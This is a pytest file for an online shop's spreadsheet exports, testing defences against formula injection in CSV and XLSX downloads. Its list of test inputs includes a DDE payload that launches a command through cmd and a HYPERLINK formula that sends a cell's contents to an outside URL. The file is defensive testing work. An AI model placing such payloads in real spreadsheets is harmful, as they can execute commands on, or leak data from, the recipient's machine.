"""Downloads for spreadsheets: nothing in them is a formula, and our own cells come back as they were."""

import csv
import tempfile
from decimal import Decimal
from io import BytesIO, StringIO

import pytest
from django.db import OperationalError
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from shop.backoffice.spreadsheets import csv_answer, plain_cell, safe_cell, xlsx_answer

NASTY = [
    "=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", '=HYPERLINK("https://example.com?"&A1,"Refund")',
    "=cmd|' /C calc'!A0", "'=1", "''@x", "＝1", "－2", "+91 98765 43210", "-", "=",
]  # fmt: skip
PLAIN = ["", "Neem Soap", "'tis honey", "a=b", "5 - 3", " =1"]


@pytest.mark.parametrize("cell", NASTY)
def test_what_looks_like_a_formula_is_text(cell):
    assert safe_cell(cell) == f"'{cell}"
    assert plain_cell(safe_cell(cell)) == cell


@pytest.mark.parametrize("cell", PLAIN)
def test_other_words_stay_as_they_are(cell):
    assert safe_cell(cell) == plain_cell(cell) == cell


@given(st.text(alphabet="'=+-@\t\r\n＝a 1", max_size=8))
def test_every_text_comes_back(cell):
    assert plain_cell(safe_cell(cell)) == cell
    assert not safe_cell(cell).startswith(tuple("=+-@\t\r\n＝"))


def test_numbers_and_answers_stay_what_they_are():
    assert [safe_cell(value) for value in (-5, Decimal("-1.50"), None, True)] == [-5, Decimal("-1.50"), "", "true"]


def rows():
    yield ["name", "units"]
    for cell in NASTY:
        yield [cell, -7]


def test_a_csv_download_is_streamed_and_safe():
    answer = csv_answer("products", rows())
    assert answer.streaming
    assert answer["Content-Disposition"] == 'attachment; filename="products.csv"'
    content = b"".join(answer.streaming_content)
    assert answer["Content-Length"] == str(len(content))
    text = content.decode("utf-8-sig")
    table = list(csv.reader(StringIO(text, newline="")))
    assert table[1:] == [[f"'{cell}", "-7"] for cell in NASTY]


def broken_rows():
    yield from rows()
    raise OperationalError("gone")


@pytest.mark.parametrize("answer_of", [csv_answer, xlsx_answer])
def test_no_half_table_is_answered(answer_of):
    with pytest.raises(OperationalError):
        answer_of("products", broken_rows())


@pytest.mark.parametrize("of_rows", [broken_rows, rows], ids=["rows", "saving"])
def test_a_workbook_that_fails_leaves_nothing_behind(tmp_path, monkeypatch, of_rows):
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))
    if of_rows is rows:
        monkeypatch.setattr(Workbook, "save", lambda self, file: 1 / 0)
    with pytest.raises((OperationalError, ZeroDivisionError)):
        xlsx_answer("products", of_rows())
    assert list(tmp_path.iterdir()) == []


def test_a_workbook_holds_text_and_no_formula():
    answer = xlsx_answer("products", rows())
    sheet = load_workbook(BytesIO(b"".join(answer.streaming_content))).active
    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
    assert {cell.data_type for cell in cells} == {"s"}
    # A workbook's XML knows one kind of line end.
    assert [cell.value for cell in cells] == [f"'{cell}".replace("\r", "\n") for cell in NASTY]
    assert sheet["B2"].value == -7


def test_what_a_workbook_cannot_hold_is_left_out_or_cut():
    answer = xlsx_answer("words", [["a\x00b\x0b", "x" * 40_000]])
    sheet = load_workbook(BytesIO(b"".join(answer.streaming_content))).active
    assert (sheet["A1"].value, len(sheet["B1"].value)) == ("ab", 32_767)
